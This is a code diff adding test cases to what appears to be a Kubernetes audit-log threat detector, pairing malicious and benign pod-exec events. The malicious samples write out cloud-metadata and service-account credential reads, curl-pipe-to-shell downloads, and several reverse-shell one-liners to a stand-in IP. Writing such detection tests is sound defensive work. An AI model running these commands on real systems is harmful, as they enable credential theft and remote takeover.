@@ -134,6 +134,13 @@ NS_CTRL = {"username": "system:serviceaccount:kube-system:namespace-controller",
            "groups": ["system:serviceaccounts", "system:authenticated"]}
 
 
+def exec_ev(ms, user, *words, ns="shop", pod="web-1", code=101):
+    from urllib.parse import quote_plus
+    query = "&".join("command=" + quote_plus(w) for w in words) + "&container=app&stdin=true&stdout=true"
+    return ev(ms, user, "create", "pods", ns, pod, "exec", code=code,
+              uri=f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{query}")
+
+
 def burst(n, make, step=1000):
     return [make(i, T0 + i * step) for i in range(n)]
 
@@ -430,6 +437,67 @@ CASES = {
          ev(T + 1000, DEV, "create", "deployments", "shop", "web", group="apps", request=deployment(pod_spec())),
          ev(T + 2000, {"username": "system:serviceaccount:kube-system:cronjob-controller", "groups": []},
             "create", "jobs", "shop", "nightly-29000", group="batch", ip="10.0.0.5", request={})],
+    ),
+    "exec-cloud-metadata": (
+        [exec_ev(T, DEV, "sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+         exec_ev(T + 1000, DEV, "wget", "-qO-", "http://[fd00:ec2::254]/latest/api/token"),
+         exec_ev(T + 2000, DEV, "sh", "-c", "curl $AWS_CONTAINER_CREDENTIALS_FULL_URI http://169.254.170.23/v1/credentials")],
+        [exec_ev(T, DEV, "sh", "-c", "curl -s http://web.shop.svc:8080/healthz"),
+         exec_ev(T + 1000, DEV, "ls", "/latest"),
+         exec_ev(T + 2000, NODE, "sh", "-c", "curl http://169.254.169.254/latest/meta-data/")],
+    ),
+    "exec-credential-read": (
+        [exec_ev(T, DEV, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+         exec_ev(T + 1000, DEV, "sh", "-c", "cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token"),
+         exec_ev(T + 2000, DEV, "sh", "-c", "tar cz /root/.aws/ | base64"),
+         exec_ev(T + 3000, DEV, "cat", "/proc/1/environ")],
+        [exec_ev(T, DEV, "cat", "/etc/hostname"),
+         exec_ev(T + 1000, DEV, "ls", "/var/run"),
+         exec_ev(T + 2000, DEV, "sh", "-c", "echo keyboard"),
+         exec_ev(T + 3000, DEV, "cat", "/app/config.yaml")],
+    ),
+    "exec-download-and-run": (
+        [exec_ev(T, DEV, "sh", "-c", "curl -fsSL https://198.51.100.7/x.sh | sh"),
+         exec_ev(T + 1000, DEV, "sh", "-c", "wget -q http://198.51.100.7/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
+         exec_ev(T + 2000, DEV, "bash", "-c", "curl -s https://example.com/p.py | python3")],
+        [exec_ev(T, DEV, "curl", "-s", "https://web.shop.svc/healthz"),
+         exec_ev(T + 1000, DEV, "sh", "-c", "wget -qO- http://localhost:8080/metrics | grep up"),
+         exec_ev(T + 2000, DEV, "chmod", "+x", "/app/run.sh")],
+    ),
+    "exec-reverse-shell": (
+        [exec_ev(T, DEV, "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
+         exec_ev(T + 1000, DEV, "sh", "-c", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f"),
+         exec_ev(T + 2000, DEV, "nc", "-e", "/bin/sh", "198.51.100.7", "4444"),
+         exec_ev(T + 3000, DEV, "python3", "-c", "import pty,socket,os;s=socket.socket();s.connect(('198.51.100.7',4444));pty.spawn('sh')")],
+        [exec_ev(T, DEV, "bash"),
+         exec_ev(T + 1000, DEV, "nc", "-z", "db.shop.svc", "5432"),
+         exec_ev(T + 2000, DEV, "sh", "-c", "echo ok > /tmp/out")],
+    ),
+    "kubectl-cp-out": (
+        [exec_ev(T, DEV, "tar", "cf", "-", "/app/data", pod="db-0")],
+        [exec_ev(T, DEV, "tar", "-xmf", "-", "-C", "/tmp", pod="db-0"),
+         exec_ev(T + 1000, DEV, "tar", "tf", "/backup.tar", pod="db-0")],
+    ),
+    "secret-read-new-client": (
+        [ev(T, DEV, "get", "secrets", "shop", "db", ip=OFFICE),
+         ev(T + 15 * DAY, DEV, "get", "secrets", "shop", "db", ip=PUBLIC, agent="curl/8.5.0")],
+        [ev(T, DEV, "get", "secrets", "shop", "db", ip=OFFICE),
+         ev(T + 2 * DAY, DEV, "get", "secrets", "shop", "db", ip="10.20.0.99"),
+         ev(T + 10 * DAY, DEV, "list", "secrets", "shop", ip=OFFICE),
+         ev(T + 20 * DAY, DEV, "get", "secrets", "shop", "db", ip=OFFICE),
+         ev(T + 21 * DAY, APP_SA, "get", "secrets", "shop", "db", ip="10.0.3.7", code=403)],
+    ),
+    "forbidden-probing": (
+        [ev(T + i * 30_000, APP_SA, "list", r, "shop", code=403, ip="10.0.3.7")
+         for i, r in enumerate(["secrets", "pods", "roles", "configmaps", "nodes"])],
+        [ev(T + i * 30_000, APP_SA, "list", "secrets", "shop", code=403, ip="10.0.3.7") for i in range(6)]
+        + [ev(T + i * 400_000, DEV, "list", r, "shop", code=403)
+           for i, r in enumerate(["secrets", "pods", "roles", "configmaps"])],
+    ),
+    "anonymous-pod-write": (
+        [ev(T, ANON, "create", "pods", "default", ip=PUBLIC, code=403, request=pod(pod_spec()))],
+        [ev(T, ANON, "get", "pods", "default", ip=PUBLIC, code=403),
+         ev(T + 1000, DEV, "create", "pods", "shop", "debug", request=pod(pod_spec()))],
     ),
 }
 
